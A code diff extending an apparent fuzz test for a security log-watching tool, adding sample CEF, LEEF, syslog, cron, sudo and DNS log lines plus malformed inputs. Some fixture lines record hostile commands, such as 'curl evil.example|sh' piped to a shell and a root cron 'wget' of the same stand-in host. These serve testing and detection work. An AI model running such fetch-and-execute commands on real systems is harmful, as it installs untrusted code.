@@ -31,8 +31,42 @@ NASTY = (
     b"\\u0000",
     b"evil",
     b"\n\n\n",
+    b"|",
+    b"=",
+    b',"',
+    b"' ",
 )
-NAMES = ("dns.log", "http.log", "eve.json", "conn.1.log", "x.jsonl", "open_http.log", "access.log", "audit.log")
+TEXTS = tuple(
+    [line.encode() for line in lines]
+    for lines in (
+        [
+            r"Nov 29 10:00:00 host CEF:0|V|P|1|100|Name \| x|5|src=10.0.0.1 request=http://a/evil\=1 cs1=b cs1Label=c rt=1700000000000",
+            "LEEF:2.0|V|P|1|id|^|src=10.0.0.1^url=http://evil.example/a^devTime=Nov 29 2026 10:00:00",
+            "LEEF:1.0|V|P|1|id|src=10.0.0.1\turl=evil.example\tusrName=a",
+        ],
+        [
+            '10:20:05.408091526: Warning Shell in a container (user=root command=bash -c "curl evil.example|sh" pid=1)',
+            'time="2026-11-29T10:00:00Z" level=info msg="x" url="http://evil.example/a?b=1" client=10.0.0.1',
+            "Nov 29 10:00:00 h sudo: root : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh -c evil",
+            "Nov 29 10:00:00 h CRON[1]: (root) CMD (wget evil.example)",
+        ],
+        [
+            '"timestamp","query","client","note"',
+            '"2026-11-29T10:00:00Z","evil.example","10.0.0.1","a ""b"" c"',
+            '"2026-11-29T10:00:01Z","good.example","10.0.0.2","over',
+            'two lines"',
+            "2026-11-29T10:00:02Z,other.example,10.0.0.3,x",
+        ],
+        [
+            "29-Nov-2026 10:00:00.000 queries: info: client @0x7f01 10.0.0.1#1234 (b.example): query: b.example IN A +E(0) (10.0.0.53)",
+            "Nov 29 10:00:00 dnsmasq[1]: query[A] evil.example from 10.0.0.1",
+            "Nov 29 10:00:00 unbound[1:0] info: 10.0.0.1 evil.example. A IN",
+            '[INFO] 10.0.0.1:5353 - 1 "A IN evil.example. udp 40 false 512" NOERROR qr 80 0.001s',
+        ],
+    )
+)
+"""Lines that name their values, tables, and query logs."""
+NAMES = ("dns.log", "http.log", "eve.json", "conn.1.log", "x.jsonl", "open_http.log", "access.log", "audit.log", "table.csv", "syslog")
 FORMS = ("jsonl", "eve", "zeek")
 MOST_LINES = 40
 
@@ -45,7 +79,7 @@ def sample_lines() -> list[list[bytes]]:
         raw = gzip.decompress(raw) if raw.startswith(b"\x1f\x8b") else raw
         if path.suffix != ".md":
             found.append([line for line in raw.split(b"\n") if line][:400])
-    return [lines for lines in found if lines]
+    return [*(lines for lines in found if lines), *TEXTS]
 
 
 def spoiled(line: bytes, chance: random.Random) -> bytes:
@@ -117,13 +151,16 @@ class Target:
         output, form = self.folder / "out", chance.choice(FORMS)
         settings = {"paths": (self.folder / "logs",), "once": True, "output": output, "form": form, "summary": self.folder / "summary.json"}
         settings |= {"emit": chance.choice(("all", "alarms")), "budget": Budget({"*": 5}) if chance.random() < 0.3 else Budget()}
+        if form != "zeek" and chance.random() < 0.3:
+            settings |= {"emit": "incidents", "incidents_per_day": chance.choice((0, 1, 5))}
         runner = Runner(WatchConfig(**settings), FakeModel)  # type: ignore[arg-type]
         try:
             runner.run()
         finally:
             runner.close()
         summary = json.loads((self.folder / "summary.json").read_text())
-        if summary["records"] != summary["records_out"] + sum(summary["skipped"].values()):
+        told = settings["emit"] == "incidents"  # records make incidents, not events
+        if not told and summary["records"] != summary["records_out"] + sum(summary["skipped"].values()):
             return "BAD records are not accounted for"
         if "failed" in summary["skipped"]:
             return f"BAD {summary['messages'][0].partition(': ')[2][:80]}"
